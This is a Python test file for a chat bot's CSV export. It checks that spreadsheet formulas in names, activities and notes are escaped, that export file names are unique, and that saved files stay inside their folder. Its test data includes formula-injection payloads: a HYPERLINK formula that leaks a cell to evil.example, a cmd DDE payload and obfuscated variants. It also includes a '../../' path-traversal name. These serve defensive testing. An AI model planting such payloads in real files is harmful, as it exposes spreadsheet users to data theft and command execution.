"""CSV exports are safe to open in a spreadsheet, and no two exports share a file name."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time, timedelta
from pathlib import Path

from adapters.console import ConsoleAdapter, save_new_file
from adapters.memory import MemoryAdapter
from bot.clock import FakeClock
from bot.commands.data import spreadsheet_safe
from bot.engine import Engine
from bot.messages import Reply
from bot.storage.checkins import CheckinRecord, save_checkin
from bot.storage.db import Database
from bot.storage.people import find_member
from tests.stats_helpers import join

WED = date(2026, 11, 25)
MON = WED - timedelta(days=2)

# Text that a spreadsheet would run as a formula, as typed, and variants that try to hide it.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # leading spaces: importers trim them
    "\u00a0@SUM(1)",  # a no-break space first
    "\n+1",
    '\uff1dHYPERLINK("http://evil.example")',  # a full-width equals sign
    "=Łódź ünïcødé",
)
# Text that starts harmlessly stays exactly as typed.
HARMLESS = ("Zoë Ångström", "demo with Acme = big deal", "1-2 calls", "'quoted'", "日本語")

# Three hostile texts per member: the name, the first activity, and the note.
MEMBERS = {f"u{index}": HOSTILE[index] for index in range(len(HOSTILE))}


def rows_of(reply: Reply) -> list[dict[str, str]]:
    """The export read back as a spreadsheet importer would, with the csv module."""
    assert reply.file is not None and reply.filename is not None
    return list(csv.DictReader(io.StringIO(reply.file.decode("utf-8-sig"), newline="")))


async def seed_hostile(database: Database, user: str, index: int) -> None:
    """A check-in whose activities, wins note and note are hostile or harmless texts."""
    hostile = HOSTILE[index]
    harmless = HARMLESS[index % len(HARMLESS)]
    async with database.transaction() as session:
        member = await find_member(session, "memory", user)
        assert member is not None
        record = CheckinRecord(
            status="complete",
            conversations=index,
            minutes=10 * index,
            activities=((hostile, "neutral"), (harmless, "neutral"), ("x", "low"), (hostile, "")),
            wins=1,
            wins_note=hostile,
            note=hostile,
        )
        await save_checkin(session, member.id, MON, record, now=_at(MON))


def _at(day: date) -> datetime:
    return datetime.combine(day, time(18, 0)).astimezone()


def assert_escaped(cell: str, typed: str) -> None:
    assert cell == "'" + typed, (cell, typed)


async def test_team_export_escapes_every_hostile_name_activity_and_note(
    bot: MemoryAdapter, database: Database
) -> None:
    await join(bot, "boss", admin=True)
    for index, (user, name) in enumerate(MEMBERS.items()):
        await bot.say("help", user=user, name=name)
        await seed_hostile(database, user, index)

    reply = (await bot.command("export", "team", user="boss", is_admin=True))[0]
    rows = {row["member_id"]: row for row in rows_of(reply)}

    assert set(rows) == set(MEMBERS)
    for index, (user, name) in enumerate(MEMBERS.items()):
        row = rows[user]
        assert_escaped(row["member_name"], name)
        assert_escaped(row["activity_1"], HOSTILE[index])
        assert row["activity_2"] == HARMLESS[index % len(HARMLESS)]
        assert_escaped(row["more_activities"], HOSTILE[index])
        assert_escaped(row["wins_note"], HOSTILE[index])
        assert_escaped(row["note"], HOSTILE[index])
        # Counts are numbers Needle validated, written as numbers so sums still work.
        assert (row["conversations"], row["minutes"]) == (str(index), str(10 * index))
        assert (row["date"], row["status"], row["class_3"]) == (MON.isoformat(), "complete", "low")


async def test_own_export_escapes_what_the_member_typed_in_the_chat(bot: MemoryAdapter) -> None:
    name = "@Ana =1+1"
    await bot.say("help", user="ana", name=name)
    await bot.say("3 calls, 20 min; demo with Acme", user="ana", name=name)

    reply = (await bot.say("export", user="ana", name=name))[0]
    (row,) = rows_of(reply)

    assert_escaped(row["member_name"], name)
    assert row["activity_1"] == "demo with Acme"
    assert (row["conversations"], row["minutes"]) == ("3", "20")


def test_numbers_pass_and_text_that_looks_like_a_negative_number_is_quoted() -> None:
    assert spreadsheet_safe(0) == 0 and spreadsheet_safe(12) == 12
    assert spreadsheet_safe("-3") == "'-3"
    assert spreadsheet_safe("") == ""
    for text in HARMLESS:
        assert spreadsheet_safe(text) == text


async def test_two_members_exporting_on_the_same_day_get_different_names(
    bot: MemoryAdapter, clock: FakeClock
) -> None:
    await join(bot, "ana")
    await join(bot, "ben")
    ana = (await bot.command("export", user="ana"))[0].filename
    ben = (await bot.command("export", user="ben"))[0].filename
    clock.advance(minutes=1)
    ana_later = (await bot.command("export", user="ana"))[0].filename

    assert ana == "needle-export-ana-2026-11-25-180000.csv"
    assert ben == "needle-export-ben-2026-11-25-180000.csv"
    assert ana_later == "needle-export-ana-2026-11-25-180100.csv"


async def test_the_console_never_overwrites_a_saved_export(engine: Engine, tmp_path: Path) -> None:
    out = io.StringIO()
    console = ConsoleAdapter(engine, name="Ana Lima", output=out, files_dir=tmp_path / "charts")
    await engine.handle(console.incoming("help"))
    (tmp_path / "charts").mkdir()
    replies = await engine.handle(console.incoming("export"))
    (taken,) = {reply.filename for reply in replies if reply.file is not None}
    assert taken is not None
    (tmp_path / "charts" / taken).write_bytes(b"an earlier file")

    console.show(replies)
    console.show(replies)

    assert (tmp_path / "charts" / taken).read_bytes() == b"an earlier file"
    stem = taken.removesuffix(".csv")
    saved = sorted(path.name for path in (tmp_path / "charts").iterdir())
    assert saved == sorted([taken, f"{stem}-2.csv", f"{stem}-3.csv"])
    for name in (f"{stem}-2.csv", f"{stem}-3.csv"):
        assert (
            (tmp_path / "charts" / name).read_bytes().decode("utf-8-sig").startswith("member_id,")
        )
        assert f"(saved {tmp_path / 'charts' / name})" in out.getvalue()


def test_a_saved_file_stays_inside_its_folder(tmp_path: Path) -> None:
    folder = tmp_path / "charts"
    first = save_new_file(folder, "../../escape.csv", b"1")
    second = save_new_file(folder, "..", b"2")

    assert first == folder / "escape.csv" and first.read_bytes() == b"1"
    assert second.parent == folder and second.read_bytes() == b"2"
    assert not (tmp_path / "escape.csv").exists()
